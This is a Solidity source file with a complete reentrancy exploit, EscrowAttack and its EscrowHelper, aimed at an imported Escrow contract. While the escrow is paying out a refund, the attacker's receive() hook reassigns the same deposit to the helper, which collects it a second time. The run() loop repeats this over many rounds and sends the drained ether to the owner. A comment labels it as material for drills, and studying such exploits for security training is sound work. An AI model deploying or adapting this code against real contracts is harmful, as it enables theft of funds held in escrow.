// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {Escrow} from "./Escrow.sol";

/// The attack on `Escrow`, for drills: while a refund is paid, hand the same deposit over to a helper, which is refunded
/// it again.
contract EscrowAttack {
    address private immutable owner;
    Escrow private immutable escrow;
    EscrowHelper private immutable helper;

    error NotOwner(address caller);
    error Unpaid();

    constructor(Escrow escrow_) {
        owner = msg.sender;
        escrow = escrow_;
        helper = new EscrowHelper(escrow_);
    }

    /// Each round brings as much as was put in.
    function run(uint256 rounds) external payable {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        for (uint256 round = 0; round < rounds; round++) {
            escrow.deposit{value: msg.value}();
            escrow.refund();
            helper.collect();
        }
        (bool paid,) = owner.call{value: address(this).balance}("");
        if (!paid) revert Unpaid();
    }

    receive() external payable {
        if (escrow.depositOf(address(this)) > 0) escrow.assign(address(helper));
    }
}

/// Takes back what is handed over to it.
contract EscrowHelper {
    address private immutable maker;
    Escrow private immutable escrow;

    error Unpaid();

    constructor(Escrow escrow_) {
        maker = msg.sender;
        escrow = escrow_;
    }

    function collect() external {
        escrow.refund();
        (bool paid,) = maker.call{value: address(this).balance}("");
        if (!paid) revert Unpaid();
    }

    receive() external payable {}
}
